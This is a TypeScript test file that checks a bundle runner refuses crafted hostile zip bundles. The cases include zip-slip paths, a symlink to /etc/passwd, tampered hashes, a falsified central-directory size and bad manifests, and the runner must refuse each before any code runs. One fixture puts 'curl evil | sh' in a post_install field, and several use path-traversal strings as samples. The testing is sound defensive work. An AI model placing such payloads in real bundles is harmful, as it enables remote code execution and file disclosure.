// Hostile bundles are refused before any of their code runs. Every bundle here carries an
// entrypoint that would create a marker file; the control case proves the marker mechanism works.

import { mkdtempSync, existsSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { TaskStatus } from "../../gen/ts/trace/dispatcher/v1/task_pb.js";
import { sha256Hex } from "../../src/bundle/hash.js";
import { readZipDirectory } from "../../src/bundle/zip.js";
import { runInvocation } from "../../src/runner/run.js";
import {
  craftZip,
  fileEntry,
  invocationFor,
  manifestJson,
  testRunner,
  useFakeServers,
  type BundleServer,
  type CraftedEntry,
  type FakeDispatcher,
} from "./harness.js";

const markerDir = mkdtempSync(join(tmpdir(), "runner-marker-"));
let markerCount = 0;

function markerEntrypoint(): { marker: string; code: string } {
  const marker = join(markerDir, `ran-${++markerCount}`);
  return { marker, code: `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.stringify(marker)}, "ran");\nconsole.log("{}");\n` };
}

interface Attack {
  name: string;
  /** Builds the zip around an entrypoint whose source is `code`. */
  zip: (code: string) => Uint8Array;
  /** The bundle_sha256 the Dispatcher claims; default: the zip's real hash. */
  claimedSha256?: (zip: Uint8Array) => string;
  category: "bundle_rejected" | "bundle_hash_mismatch";
  /** Expected start of the error detail after the category. */
  reason: string;
}

function withManifest(manifest: string, entries: CraftedEntry[]): Uint8Array {
  return craftZip([{ name: "bundle_manifest.json", data: manifest }, ...entries]);
}

const ENTRY = "main.mjs";
const attacks: Attack[] = [
  {
    name: "a zip tampered after bundle_sha256 was recorded",
    zip: (code) => withManifest(manifestJson({ files: [fileEntry(ENTRY, code)] }), [{ name: ENTRY, data: code }]),
    claimedSha256: (zip) => {
      const original = sha256Hex(zip);
      zip[zip.length - 30] = (zip[zip.length - 30] ?? 0) ^ 0xff;
      return original;
    },
    category: "bundle_hash_mismatch",
    reason: "bundle bytes do not match bundle_sha256",
  },
  ...["../x", "/abs", "a/../../x", "./main.mjs"].map(
    (path): Attack => ({
      name: `an undeclared zip-slip entry ${JSON.stringify(path)}`,
      zip: (code) => withManifest(manifestJson({ files: [fileEntry(ENTRY, code)] }), [{ name: ENTRY, data: code }, { name: path, data: "x" }]),
      category: "bundle_rejected",
      reason: "entry_unsafe_path",
    }),
  ),
  ...["../x", "/abs", "a/../../x", "a/./b", "dir\\evil.mjs", "a//b", "trailing/", "nul\u0000byte"].map(
    (path): Attack => ({
      name: `a manifest declaring ${JSON.stringify(path)}`,
      // Only the manifest names the path, so the manifest rule (not a zip-entry check) refuses it.
      zip: (code) => withManifest(manifestJson({ files: [fileEntry(ENTRY, code), fileEntry(path, "x")] }), [{ name: ENTRY, data: code }]),
      category: "bundle_rejected",
      reason: "manifest_invalid",
    }),
  ),
  {
    name: "an undeclared backslash entry",
    zip: (code) => withManifest(manifestJson({ files: [fileEntry(ENTRY, code)] }), [{ name: ENTRY, data: code }, { name: "a\\b", data: "x" }]),
    category: "bundle_rejected",
    reason: "entry_unsafe_path",
  },
  {
    name: "an undeclared file",
    zip: (code) => withManifest(manifestJson({ files: [fileEntry(ENTRY, code)] }), [{ name: ENTRY, data: code }, { name: "extra.txt", data: "x" }]),
    category: "bundle_rejected",
    reason: "entry_undeclared",
  },
  {
    name: "a declared file missing from the zip",
    zip: (code) => withManifest(manifestJson({ files: [fileEntry(ENTRY, code), fileEntry("lib.mjs", "x")] }), [{ name: ENTRY, data: code }]),
    category: "bundle_rejected",
    reason: "entry_missing",
  },
  {
    name: "a file whose hash differs from the manifest",
    // Same length as declared, different content: only the hash can tell.
    zip: (code) => withManifest(manifestJson({ files: [fileEntry(ENTRY, code)] }), [{ name: ENTRY, data: `${code.slice(0, -1)} ` }]),
    category: "bundle_rejected",
    reason: "entry_hash_mismatch",
  },
  {
    name: "a file larger than declared",
    zip: (code) => withManifest(manifestJson({ files: [{ ...fileEntry(ENTRY, code), bytes: 5 }] }), [{ name: ENTRY, data: code }]),
    category: "bundle_rejected",
    reason: "entry_size_mismatch",
  },
  {
    name: "a file larger than declared, with a central directory that lies to match",
    zip: (code) => {
      const zip = withManifest(manifestJson({ files: [{ ...fileEntry(ENTRY, code), bytes: 5 }] }), [{ name: ENTRY, data: code }]);
      const entry = readZipDirectory(zip).find((candidate) => candidate.name === ENTRY);
      if (!entry) throw new Error("no entry");
      new DataView(zip.buffer, zip.byteOffset).setUint32(entry.centralHeaderOffset + 24, 5, true);
      return zip;
    },
    category: "bundle_rejected",
    reason: "entry_size_mismatch",
  },
  {
    name: "a symlink entry",
    zip: (code) =>
      withManifest(manifestJson({ files: [fileEntry(ENTRY, code), fileEntry("passwd", "/etc/passwd")] }), [
        { name: ENTRY, data: code },
        { name: "passwd", data: "/etc/passwd", unixMode: 0o120777 },
      ]),
    category: "bundle_rejected",
    reason: "entry_not_regular_file",
  },
  {
    name: "a directory entry",
    zip: (code) => withManifest(manifestJson({ files: [fileEntry(ENTRY, code)] }), [{ name: "lib/", data: "", unixMode: 0o040755 }, { name: ENTRY, data: code }]),
    category: "bundle_rejected",
    reason: "entry_not_regular_file",
  },
  {
    name: "an unknown manifest field",
    zip: (code) => withManifest(manifestJson({ files: [fileEntry(ENTRY, code)], post_install: "curl evil | sh" }), [{ name: ENTRY, data: code }]),
    category: "bundle_rejected",
    reason: "manifest_invalid",
  },
  {
    name: "an unknown field in a file entry",
    zip: (code) => withManifest(manifestJson({ files: [{ ...fileEntry(ENTRY, code), mode: 0o4755 }] }), [{ name: ENTRY, data: code }]),
    category: "bundle_rejected",
    reason: "manifest_invalid",
  },
  {
    name: "duplicate paths in the manifest",
    zip: (code) => withManifest(manifestJson({ files: [fileEntry(ENTRY, code), fileEntry(ENTRY, code)] }), [{ name: ENTRY, data: code }]),
    category: "bundle_rejected",
    reason: "manifest_invalid",
  },
  {
    name: "duplicate entries in the zip",
    zip: (code) => withManifest(manifestJson({ files: [fileEntry(ENTRY, code)] }), [{ name: ENTRY, data: code }, { name: ENTRY, data: "evil" }]),
    category: "bundle_rejected",
    reason: "entry_duplicate",
  },
  {
    name: "a second manifest entry",
    zip: (code) => withManifest(manifestJson({ files: [fileEntry(ENTRY, code)] }), [{ name: ENTRY, data: code }, { name: "bundle_manifest.json", data: "{}" }]),
    category: "bundle_rejected",
    reason: "entry_duplicate",
  },
  {
    name: "the manifest listing itself",
    zip: (code) =>
      withManifest(manifestJson({ files: [fileEntry(ENTRY, code), fileEntry("bundle_manifest.json", "{}")] }), [{ name: ENTRY, data: code }]),
    category: "bundle_rejected",
    reason: "manifest_invalid",
  },
  {
    name: "no manifest",
    zip: (code) => craftZip([{ name: ENTRY, data: code }]),
    category: "bundle_rejected",
    reason: "manifest_missing",
  },
  {
    name: "an entrypoint that is not listed",
    zip: (code) => withManifest(manifestJson({ entrypoint: "other.mjs", files: [fileEntry(ENTRY, code)] }), [{ name: ENTRY, data: code }]),
    category: "bundle_rejected",
    reason: "manifest_invalid",
  },
  {
    name: "an env_allowlist name outside ^[A-Z_][A-Z0-9_]*$",
    zip: (code) => withManifest(manifestJson({ files: [fileEntry(ENTRY, code)], env_allowlist: ["path"] }), [{ name: ENTRY, data: code }]),
    category: "bundle_rejected",
    reason: "manifest_invalid",
  },
  {
    name: "bytes that are not a zip",
    zip: (code) => new TextEncoder().encode(code),
    category: "bundle_rejected",
    reason: "zip_invalid",
  },
];

let dispatcher: FakeDispatcher;
let bundles: BundleServer;
useFakeServers((d, b) => {
  dispatcher = d;
  bundles = b;
});

describe("hostile bundles", () => {
  it("control: the same construction with a valid manifest does run (the marker works)", async () => {
    dispatcher.completions.length = 0;
    const { marker, code } = markerEntrypoint();
    const zip = withManifest(manifestJson({ files: [fileEntry(ENTRY, code)] }), [{ name: ENTRY, data: code }]);
    const runner = testRunner(dispatcher.url);

    const outcome = await runInvocation(invocationFor(bundles.serve(zip), sha256Hex(zip)), runner.options);

    expect(outcome).toMatchObject({ kind: "reported", status: "completed" });
    expect(existsSync(marker)).toBe(true);
  });

  it.each(attacks)("refuses $name before running anything", async (attack) => {
    dispatcher.completions.length = 0;
    const { marker, code } = markerEntrypoint();
    const zip = attack.zip(code);
    const claimed = attack.claimedSha256 ? attack.claimedSha256(zip) : sha256Hex(zip);
    const runner = testRunner(dispatcher.url);

    const outcome = await runInvocation(invocationFor(bundles.serve(zip), claimed), runner.options);

    expect(outcome).toMatchObject({ kind: "reported", status: "failed", category: attack.category });
    const request = dispatcher.completions[0]?.request;
    expect(request?.status).toBe(TaskStatus.FAILED);
    expect(request?.errorMessage.startsWith(`${attack.category}: ${attack.reason}`)).toBe(true);
    expect(request?.retryable).toBe(false);
    expect(existsSync(marker)).toBe(false);
    expect(runner.logs.some((event) => event.msg === "entrypoint starting")).toBe(false);
    expect(runner.leftovers()).toEqual([]);
  });

  it("refuses a download larger than the configured cap", async () => {
    dispatcher.completions.length = 0;
    const { marker, code } = markerEntrypoint();
    const zip = withManifest(manifestJson({ files: [fileEntry(ENTRY, code)] }), [{ name: ENTRY, data: code }]);
    const runner = testRunner(dispatcher.url, { maxBundleBytes: zip.byteLength - 1 });

    const outcome = await runInvocation(invocationFor(bundles.serve(zip), sha256Hex(zip)), runner.options);

    expect(outcome).toMatchObject({ kind: "reported", status: "failed", category: "bundle_rejected" });
    expect(existsSync(marker)).toBe(false);
  });

  it("reports a failed download as retryable, without the URL's query string", async () => {
    dispatcher.completions.length = 0;
    const runner = testRunner(dispatcher.url);
    const missing = `${bundles.serve(new Uint8Array(1)).replace(/\/\d+\.zip/, "/missing.zip")}`;

    const outcome = await runInvocation(invocationFor(missing, "0".repeat(64)), runner.options);

    expect(outcome).toMatchObject({ kind: "reported", status: "failed", category: "bundle_download_failed" });
    const request = dispatcher.completions[0]?.request;
    expect(request?.errorMessage).toBe("bundle_download_failed: download answered HTTP 404");
    expect(request?.retryable).toBe(true);
    expect(JSON.stringify(runner.logs)).not.toContain("X-Amz-Signature");
  });
});
